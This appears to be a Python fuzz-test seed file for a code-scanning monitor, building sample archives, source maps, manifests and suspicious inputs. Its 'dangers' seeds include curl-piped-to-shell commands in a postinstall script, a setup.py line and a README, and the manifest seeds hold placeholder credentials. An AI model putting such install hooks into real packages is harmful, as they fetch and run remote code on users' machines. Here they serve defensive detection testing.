"""Small valid inputs of every kind, from which the mutations start."""

import bz2
import json
import lzma
import shutil
import tempfile
import zipfile
from pathlib import Path

from inflate64 import Deflater

from monitors.fingerprints import fingerprint, learn
from monitors.fingerprints.identity import identify
from monitors.unpack.decompressors import zstd
from tests.fuzz.contracts import NAMES
from tests.fuzz.findings import PLACES
from tests.fuzz.readers import OURS
from tests.monitors.sources.histories import checkout, commit, git
from tests.monitors.unpack.packing import (
    asar,
    gzipped,
    index_map,
    inlined,
    source_map,
    tarred,
    zipped,
    zipped_by,
)

CODE = b"""/*! @license MIT */
import {alpha} from "./alpha"; export const greeting = `Hello ${alpha.something + `x${1}`} world`;
function rewrite(text) { return text.replace(/["'`/]+/g, 'quotes are gone').member_name_here // end
}
"""
MAP = source_map({"../src/a.ts": CODE.decode(), "webpack:///./src/b.vue?1": "\ud83d\ude00", "c": None})
INDEX_MAP = index_map({"map": json.loads(MAP)}, {"url": "b.js.map"})
TREE = {
    "package/package.json": b'{"name": "@a/b"}',
    "package/dist/a.js": CODE + inlined(MAP),
    "a.js.map": MAP,
}


def _archives() -> dict[str, bytes]:
    tar = tarred(TREE, "w:")
    methods = (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA)
    return {
        "tar": tar,
        "tgz": gzipped(tar),
        "tbz": bz2.compress(tar),
        "txz": lzma.compress(tar),
        "tzst": zstd.compress(tar),
        "asar": asar(TREE),
        "gem": tarred({"metadata.gz": gzipped(b"a"), "data.tar.gz": tarred({"lib/a.rb": CODE})}, "w:"),
        "nested": zipped({"a.tgz": tarred(TREE), "b.asar": asar(TREE)}),
        "document": zipped({"a.docx": zipped({"word/document.xml": b"<x/>"})}),
        **{f"zip{method}": zipped(TREE, method) for method in methods},
        "zip9": zipped_by(9, _deflate64(CODE), CODE),
        "zip93": zipped_by(93, zstd.compress(CODE), CODE),
        "zip95": zipped_by(95, lzma.compress(CODE), CODE),
    }


def _deflate64(content: bytes) -> bytes:
    deflater = Deflater()
    return deflater.deflate(content) + deflater.flush()


def _doubtful() -> dict[str, bytes]:
    """The first byte chooses one of the names in readers.NAMES."""
    return {
        "program": b"\x00MZ" + b"\0" * 58 + b"\x40\0\0\0PE\0\0",
        "manifest": b"\x01" + b'{"scripts": {"postinstall": "curl https://a.dev/b | sh"}}',
        "setup": b"\x02import os; os.system('curl a | sh')",
        "readme": b"\x03Download a.zip, password: 1234\n$ curl https://a.dev | bash\n",
        "zip": b"\x04" + zipped(TREE),
        "elf": b"\x07\x7fELF\x02\x01",
    }


def _bundles() -> dict[str, bytes]:
    """One of two commits, the second kept as a difference to the first."""
    if not shutil.which("git"):
        return {"none": b"# v2 git bundle\n\n"}
    with tempfile.TemporaryDirectory() as folder:
        work = checkout(Path(folder) / "work", {"a.ts": CODE * 9, "dist/a.js.map": MAP})
        commit(work, {"a.ts": CODE * 9 + b"let b\n"})
        git(work, "bundle", "create", "-q", "../a", "--all")
        git(work, "bundle", "create", "-q", "--version=3", "../b", "main")
        return {name: (Path(folder) / name).read_bytes() for name in ("a", "b")}


def _manifests() -> dict[str, bytes]:
    """What is read in files of these names; the first byte chooses the name."""
    told = {
        "src/a.ts": CODE + b"const key = 'AKIAIOSFODNN7EXAMPLE'; fetch('https://api.internal.acme.dev/v1')\n",
        "package.json": b'{"name": "@a/b", "dependencies": {"c": "^1.2.3"}, "files": ["d"]}',
        ".env": b"DB_PASSWORD=hunter2hunter2\nURL=postgres://u:secretsecret@10.0.0.1/d\n",
        "go.mod": b"module a.dev/b\ngo 1.22\nrequire (\n\tc.dev/d v1.2.3 // indirect\n)\n",
        "requirements.txt": b"django==5.2 --hash=sha256:00\n-r other.txt\na[b]>=1; python_version < '3'\n",
        "Cargo.toml": b'[package]\nname = "a"\n[dependencies]\nb = { version = "1", optional = true }\n',
        "LICENSE": b"Copyright (c) 2020 A. Licensed under the Apache License, Version 2.0\n",
        "a.py": b"# TODO(lena@acme.com): call +1 555 123 4567\nFLAGS = {'enable_new_login': True}\n",
        "pom.xml": b"<project><dependencies><dependency><groupId>a</groupId></dependency></dependencies>",
    }
    return {name.replace("/", "-"): bytes([PLACES.index(name)]) + content for name, content in told.items()}


def seeds(contract: str) -> dict[str, bytes]:
    """By name, for one of the contracts."""
    if contract in ("archives", "whole-maps", "repositories"):  # their bytes are choices, not content
        return {f"choices-{length}": bytes(range(256)) * length for length in (1, 4, 16)}
    maps = {"map": MAP, "index": INDEX_MAP, "inline": CODE + inlined(MAP), "guard": b")]}'\n" + MAP}
    if contract == "unpack":
        named = _archives() | maps
        return {
            f"{key}-{at}": bytes([at]) + packed for key, packed in named.items() for at in (0, len(NAMES) - 1)
        }
    if contract in _OWN:
        return _OWN[contract]()
    return maps | {
        "code": CODE,
        "utf-16": CODE.decode().encode("utf-16"),
    }


_OWN = {
    "index": lambda: {"two": fingerprint([("a.ts", CODE * 3), ("b/c.ts", MAP)]).to_bytes()},
    "background": lambda: {"two": learn([("a.ts", CODE * 3), ("b/c.ts", MAP)]).to_bytes(), "code": CODE},
    "inventory": lambda: {"zip": zipped(TREE)} | _manifests(),
    "exposures": _manifests,
    "identity": lambda: {
        "two": identify([("package.json", b'{"name": "@a/b"}'), ("README.md", CODE * 3)]).to_bytes()
    },
    "matching": lambda: {"ours": OURS, "part": OURS[:1000], "wide": OURS[:2000].decode().encode("utf-16")},
    "dangers": _doubtful,
    "bundles": _bundles,
    "encodings": lambda: {
        written: "// größe 설정 読み込む\nlet a\n".encode(written, "ignore")
        for written in (
            "utf-8",
            "utf-16",
            "utf-16-be",
            "utf-32",
            "utf-32-be",
            "cp1252",
            "gbk",
            "shift_jis",
            "euc_kr",
        )
    },
    "repeated": lambda: {
        f"{number}": piece
        for number, piece in enumerate((b"a", b"/*", b"`${", b"'\\", b'"a/', b"a.b=", b"(((", CODE))
    },
}
